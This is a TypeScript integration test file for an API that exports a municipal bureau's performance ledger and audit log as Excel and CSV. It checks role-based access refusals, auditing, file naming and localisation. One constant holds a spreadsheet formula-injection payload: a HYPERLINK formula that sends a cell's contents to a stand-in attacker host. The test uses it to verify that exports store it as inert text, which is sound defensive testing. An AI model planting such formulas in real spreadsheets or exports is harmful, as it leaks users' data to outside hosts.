// The ledger (台账) and the audit workbook over HTTP against a real Temporal dev server: only who sees the
// whole cycle (office, director, efficiency office) may download them; anyone else is refused, audited.
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readWorkbook, sheetRecords } from '../helpers/workbook.js';
import { auditUntil, csrfHeaders, harness, signIn, type Harness } from './harness.js';

let h: Harness;
let app: FastifyInstance;
let id: string;
const cookies: Record<string, string> = {};
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

beforeAll(async () => {
  h = await harness('ledger');
  app = await h.api();
  id = h.input.cycleId;
  for (const who of ['office-lin', 'director-zhang', 'efficiency-office', 'head-zheng', 'leader-wang']) cookies[who] = await signIn(app, h.dataDir, who);
  const started = await app.inject({ method: 'POST', url: '/api/cycles', headers: csrfHeaders(cookies['office-lin']!), payload: h.file });
  if (started.statusCode !== 201) throw new Error(`start: ${started.body}`);
  const submitted = await app.inject({ method: 'POST', url: `/api/cycles/${id}/deliverables/plan/submit`, headers: csrfHeaders(cookies['office-lin']!), payload: { note: EVIL } });
  if (submitted.statusCode !== 200) throw new Error(`submit: ${submitted.body}`);
});
afterAll(async () => {
  await h?.close();
});

const get = (who: string | undefined, url: string) => app.inject({ method: 'GET', url, headers: who ? csrfHeaders(cookies[who]!) : {} });

const refusal = (actor: string, action: string) => (e: { action: string; actor: string; subject: string; detail?: string }) =>
  e.action === 'refused' && e.actor === actor && e.subject === id && (e.detail ?? '').startsWith(`${action}:`);

describe('GET /api/cycles/:cycleId/ledger', () => {
  it('refuses a department head and a leader (403), each refusal audited; 401 without a session, 404 for no such cycle', async () => {
    const head = await get('head-zheng', `/api/cycles/${id}/ledger`);
    expect(head.statusCode).toBe(403);
    expect(head.json().error.message).toMatch(/head-zheng may not read the whole cycle's records/);
    expect((await get('leader-wang', `/api/cycles/${id}/ledger?format=csv`)).statusCode).toBe(403);
    const audit = await auditUntil(h.client, id, (es) => es.some(refusal('leader-wang', 'ledger')));
    expect(audit.some(refusal('head-zheng', 'ledger'))).toBe(true);
    expect(audit.some(refusal('leader-wang', 'ledger'))).toBe(true);
    expect((await get(undefined, `/api/cycles/${id}/ledger`)).statusCode).toBe(401);
    expect((await get('office-lin', '/api/cycles/perfcycle-nobody-2019/ledger')).statusCode).toBe(404);
  });

  it('gives the office the workbook as an attachment named with the unit and year; names, not ids', async () => {
    // As a link on a page: the session cookie alone, no CSRF token for a GET.
    const res = await app.inject({ method: 'GET', url: `/api/cycles/${id}/ledger`, headers: { cookie: cookies['office-lin']! } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const name = `晋江市自然资源局${h.input.year}年度绩效评估台账.xlsx`;
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${id}-ledger.xlsx"; filename*=UTF-8''${encodeURIComponent(name)}`);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const wb = await readWorkbook(res.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['事项台账', '目标台账', '审计记录', '说明']);
    const plan = sheetRecords(wb.getWorksheet('事项台账')!).find((r) => r['编号'] === 'plan')!;
    expect(plan).toMatchObject({
      负责人: '林晓燕（局办公室）', 负责人代码: 'office-lin', 状态: '审核中', 状态代码: 'in-review', 提交人: '林晓燕（局办公室）', 当前办理人: '市人社局考核科', 逾期天数: 0,
      截止日期: new Date(`${h.input.year}-12-31T00:00:00Z`),
    });
    const submitted = sheetRecords(wb.getWorksheet('审计记录')!).find((e) => e['动作代码'] === 'submitted')!;
    expect(submitted).toMatchObject({ 操作人: '林晓燕（局办公室）', 详情: EVIL, 对象代码: 'plan' });
  });

  it('format=csv for the director and the efficiency office: BOM, one table; another format is a 400', async () => {
    for (const who of ['director-zhang', 'efficiency-office']) {
      const res = await get(who, `/api/cycles/${id}/ledger?format=csv`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent(`晋江市自然资源局${h.input.year}年度绩效评估台账.csv`)}`);
      expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const rows = parseCsv(res.body, { bom: true, columns: true }) as Record<string, string>[];
      expect(rows[0]).toMatchObject({ 类型: '事项', 编号: 'plan', 负责人: '林晓燕（局办公室）', 状态: '审核中' });
      expect(rows.filter((r) => r['状态'] === '未开始')).toHaveLength(19);
    }
    const bad = await get('office-lin', `/api/cycles/${id}/ledger?format=pdf`);
    expect(bad.statusCode).toBe(400);
  });

  it('lang=en: sheets, headers, states and file names in English, the CSV still with its BOM; zh-CN by default, another language a 400', async () => {
    const xlsx = await get('office-lin', `/api/cycles/${id}/ledger?lang=en`);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-disposition']).toContain(encodeURIComponent(`晋江市自然资源局 ${h.input.year} performance ledger.xlsx`));
    const wb = await readWorkbook(xlsx.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Items', 'Targets', 'Audit log', 'About']);
    expect(sheetRecords(wb.getWorksheet('Items')!).find((r) => r['Id'] === 'plan')).toMatchObject({ Owner: '林晓燕（局办公室）', State: 'In review', 'State code': 'in-review' });
    const csv = await get('office-lin', `/api/cycles/${id}/ledger?format=csv&lang=en`);
    expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parseCsv(csv.body, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows[0]).toMatchObject({ Type: 'Item', Id: 'plan', State: 'In review' });
    expect(rows.filter((r) => r['State'] === 'Not open yet')).toHaveLength(19);
    const audit = await readWorkbook((await get('director-zhang', `/api/cycles/${id}/audit.xlsx?action=submitted&lang=en`)).rawPayload);
    expect(sheetRecords(audit.worksheets[0]!)[0]).toMatchObject({ Action: 'Submitted', 'Action code': 'submitted', Actor: '林晓燕（局办公室）' });
    expect((await get('office-lin', `/api/cycles/${id}/ledger?lang=zh-CN`)).headers['content-disposition']).toContain(encodeURIComponent('年度绩效评估台账.xlsx'));
    expect((await get('office-lin', `/api/cycles/${id}/ledger?lang=fr`)).statusCode).toBe(400);
  });
});

describe('GET /api/cycles/:cycleId/audit.xlsx', () => {
  it('the audit as a workbook, with the audit\'s filters; a formula-like detail stays a text cell', async () => {
    const res = await get('director-zhang', `/api/cycles/${id}/audit.xlsx?action=submitted`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toContain(`filename="${id}-audit.xlsx"`);
    expect(res.headers['content-disposition']).toContain(encodeURIComponent(`${h.input.year}年度绩效评估审计记录.xlsx`));
    const wb = await readWorkbook(res.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['审计记录']);
    const rows = sheetRecords(wb.worksheets[0]!);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ 动作: '提交', 动作代码: 'submitted', 操作人: '林晓燕（局办公室）', 对象: '绩效评估工作方案及"三定"规定' });
    const detail = (wb.worksheets[0]!.getRow(1).values as unknown[]).indexOf('详情');
    const cell = wb.worksheets[0]!.getRow(2).getCell(detail);
    expect(cell.value).toBe(EVIL);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect((await get('director-zhang', `/api/cycles/${id}/audit.xlsx?from=yesterday`)).statusCode).toBe(400);
  });

  it('refuses a department head, audited', async () => {
    expect((await get('head-zheng', `/api/cycles/${id}/audit.xlsx`)).statusCode).toBe(403);
    const audit = await auditUntil(h.client, id, (es) => es.some(refusal('head-zheng', 'auditXlsx')));
    expect(audit.some(refusal('head-zheng', 'auditXlsx'))).toBe(true);
  });
});
